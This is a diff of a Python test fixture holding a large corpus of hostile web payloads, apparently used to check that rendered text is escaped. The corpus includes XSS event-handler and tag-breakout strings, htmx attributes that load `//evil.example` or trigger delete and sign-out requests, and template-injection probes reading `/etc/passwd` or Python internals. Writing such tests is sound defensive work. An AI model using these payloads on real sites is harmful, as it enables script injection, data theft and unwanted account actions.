@@ -1,5 +1,5 @@
-"""Texts that want to be more than text on a page: at least 500. Each tries to set `window.__run`, or to reach a stranger's
-host. What `hostile.payloads` has for every output is among them; the rest is made for pages alone.
+"""Texts that want to be more than text on a page: at least 500. Each tries to set `window.__run`, or to reach a
+stranger's host. What `hostile.payloads` has for every output is among them; the rest is made for pages alone.
 
 Several go into one value, as long as all of it is shown: so all of them come to every field in few portions.
 """
@@ -39,7 +39,8 @@ _ELEMENTS = [
     "<link rel=prefetch href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
     f"<form action=javascript:{RUN}><button autofocus>x", "<form id=told><input name=classList>",
     f"<isindex type=image src=1 onerror={RUN}>", f"<marquee onstart={RUN}>x</marquee>", "<portal src=//evil.example>",
-    f"<textarea autofocus onfocus={RUN}>", f"</textarea><img src=x onerror={RUN}>", f"</title><img src=x onerror={RUN}>",
+    f"<textarea autofocus onfocus={RUN}>", f"</textarea><img src=x onerror={RUN}>",
+    f"</title><img src=x onerror={RUN}>",
     f"</pre><img src=x onerror={RUN}>", f"</select><img src=x onerror={RUN}>", f"</button><img src=x onerror={RUN}>",
     f"</template><img src=x onerror={RUN}>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
     f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[><img src=x onerror={RUN}>]]>", f"<?x ><img src=x onerror={RUN}>",
@@ -68,22 +69,25 @@ _SCRIPTED = [
     '{"__proto__": {"x": 1}}', f"]]>{RUN}", f"\\x3cscript\\x3e{RUN}", f"-{RUN}-", f"({RUN})",
 ]  # fmt: skip
 _HTMX = [
-    f'" hx-on:click="{RUN}', f'" hx-on::load="{RUN}', f'" hx-on--load="{RUN}', '" hx-get="//evil.example" hx-trigger="load',
+    f'" hx-on:click="{RUN}', f'" hx-on::load="{RUN}', f'" hx-on--load="{RUN}',
+    '" hx-get="//evil.example" hx-trigger="load',
     '" data-hx-get="//evil.example" data-hx-trigger="load', '" hx-post="/sign-out" hx-trigger="load',
     f"<div hx-on:htmx:load={RUN}>", f"<div data-hx-on:click={RUN}>", "<div hx-get=//evil.example hx-trigger=load>",
     "<div data-hx-get=//evil.example data-hx-trigger=load>", "<p hx-delete=/api/v1/customers/acme hx-trigger=load>",
     f'" hx-vals="js:{{x: {RUN}}}', f"<p hx-headers='js:{{x: {RUN}}}' hx-get=/ hx-trigger=load>", '" hx-boost="true',
     f"<p hx-trigger='load[{RUN}]' hx-get=/>", "<p hx-swap-oob=innerHTML:#main>x", '" hx-ext="evil', "<p hx-sse=x>",
-    f'<meta name="htmx-config" content=\'{{"allowEval":true}}\'>', "<div hx-target=body hx-get=/>", '" hx-history="false',
+    '<meta name="htmx-config" content=\'{"allowEval":true}\'>', "<div hx-target=body hx-get=/>",
+    '" hx-history="false',
     f"<div _='on load call {RUN}'>", f"<p x-init={RUN}>", f"<p v-on:click={RUN}>", f"<p ng-init={RUN}>",
 ]  # fmt: skip
 _TEMPLATES = [
-    "{{ 7*7 }}", "{{ viewer }}", "{{ config }}", "{% raw %}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}",
+    "{{ 7*7 }}", "{{ viewer }}", "{{ config }}", "{% raw %}", "{% include '/etc/passwd' %}",
+    "{{ ''.__class__.__mro__ }}",
     "{{ say.__globals__ }}", "{{ x | safe }}", "{viewer.account.password}", "{0.__class__}", "{n}", "{when}", "{",
     "}", "{{}}", "%(name)s", "%s%n", "{!r}", f"{{{{constructor.constructor('{RUN}')()}}}}", "${7*7}", "#set($x=1)",
 ]  # fmt: skip
 _OURS = [*_ATTRIBUTES, *_URLS, *_ELEMENTS, *_DRAWINGS, *_STYLES, *_SCRIPTED, *_HTMX, *_TEMPLATES]
-_PLACES = ["{}", 'refused \'">{} because']
+_PLACES = ["{}", "refused '\">{} because"]
 _ALONE = 143
 """The snippets of `hostile.payloads` by themselves, before the same ones between words."""
 
